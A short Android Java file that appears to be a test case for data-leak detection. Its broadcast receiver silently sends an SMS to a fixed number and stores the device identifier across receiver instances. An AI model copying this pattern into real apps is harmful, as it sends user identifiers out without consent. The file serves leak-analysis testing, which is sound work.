package cn.shanhai.receiverlifecycle;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsManager;

public class StateReceiver extends BroadcastReceiver {
  private static String last = "none";
  private String now = "none";

  @Override
  public void onReceive(Context context, Intent intent) {
    SmsManager.getDefault().sendTextMessage("10690001", null, now, null, null);
    now = Device.id(context);
    last = now;
  }
}
